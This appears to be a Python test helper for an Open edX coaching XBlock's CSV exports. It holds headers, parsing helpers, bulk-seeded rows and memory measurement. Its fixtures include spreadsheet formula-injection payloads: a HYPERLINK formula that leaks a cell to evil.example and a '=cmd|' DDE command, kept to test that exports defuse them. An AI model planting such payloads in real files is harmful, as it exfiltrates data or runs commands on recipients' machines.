"""The story's CSV exports: their headers, what people may type that a spreadsheet would run, the exports read
back with the csv module, and bulk-created rows for the tests of their size."""
import csv
import gc
import tracemalloc
from datetime import timedelta

from coach_xblock import exports
from coach_xblock.models import CheckinMessage, CheckinRequest

from . import COURSE, T0

REQUEST_HEADER = [
    "request_id", "learner", "point_id", "point_title", "topic", "status", "created_at", "first_answered_at",
    "last_answered_at", "closed_at", "expected_response_hours", "due_at", "rating", "rating_comment",
    "not_helped_at", "not_helped_count", "not_helped_comment", "working_on", "stuck_on", "tried", "link",
]
MESSAGE_HEADER = ["request_id", "message_id", "author_role", "created_at", "body"]
#: ... where the operator allows usernames: the coach's display name on each coach's message.
MESSAGE_HEADER_WITH_NAMES = [*MESSAGE_HEADER, "coach_name"]

# What people may type that a spreadsheet would run as a formula.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click me")'
PHONE = "+33 6 12 34 56 78: call me, I am stuck"
MINUS = "-1 attempt so far; the test did not help"
AT_SUM = "@SUM(1)"
CMD = "=cmd|' /C calc'!A0"


def parse(lines):
    """The rows of the CSV made of `lines` (an export's generator, or bytes of a download)."""
    text = lines.decode("utf-8") if isinstance(lines, bytes) else "".join(lines)
    return list(csv.reader(text.splitlines(keepends=True)))


def as_dicts(rows):
    """The rows of a CSV after its header, each as a dict by column name."""
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]



def requests_csv(course=COURSE):
    """The requests export of `course`, read back: a dict by column for each request."""
    return as_dicts(parse(exports.export_requests(course)))


def messages_csv(course=COURSE):
    """The messages export of `course`, read back: a dict by column for each message."""
    return as_dicts(parse(exports.export_messages(course)))


def seed_requests(total, course=COURSE):
    """Test setup: exactly `total` plain requests in `course`, bulk-created."""
    CheckinRequest.objects.all().delete()
    CheckinRequest.objects.bulk_create(
        [
            CheckinRequest(
                course_key=course, point_id="block-v1:Demo+Career+2026+type@coach_checkin+block@skills",
                point_title="Naming my skills", topic="skills", learner_id=f"anon-{number}",
                learner_name=f"Learner {number}", client_token=f"t{number}", working_on="My project " * 6,
                stuck_on="I cannot name my skills from my previous job " * 4, tried="The online test " * 4,
                created_at=T0 + timedelta(seconds=number), due_at=T0 + timedelta(hours=48),
            )
            for number in range(total)
        ],
        batch_size=2000,
    )


def seed_messages(total, course=COURSE):
    """Test setup: exactly `total` messages on a few requests of `course`."""
    seed_requests(10, course)
    request_ids = list(CheckinRequest.objects.values_list("id", flat=True))
    CheckinMessage.objects.bulk_create(
        [
            CheckinMessage(request_id=request_ids[number % 10], author_role=("coach", "learner")[number % 2],
                           author_id="x", author_name="X", body="A message of a long thread " * 8,
                           created_at=T0 + timedelta(seconds=number))
            for number in range(total)
        ],
        batch_size=2000,
    )


#: Each export, and how to seed exactly N rows of it.
EXPORTS = {
    "requests": (exports.export_requests, seed_requests),
    "messages": (exports.export_messages, seed_messages),
}


def peak_while_reading(make_chunks):
    """How many chunks the iterable `make_chunks()` gives to its end, and the peak of Python memory
    allocated meanwhile, in bytes (from the call of `make_chunks` on)."""
    gc.collect()
    tracemalloc.start()
    try:
        chunks = sum(1 for _chunk in make_chunks())
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return chunks, peak
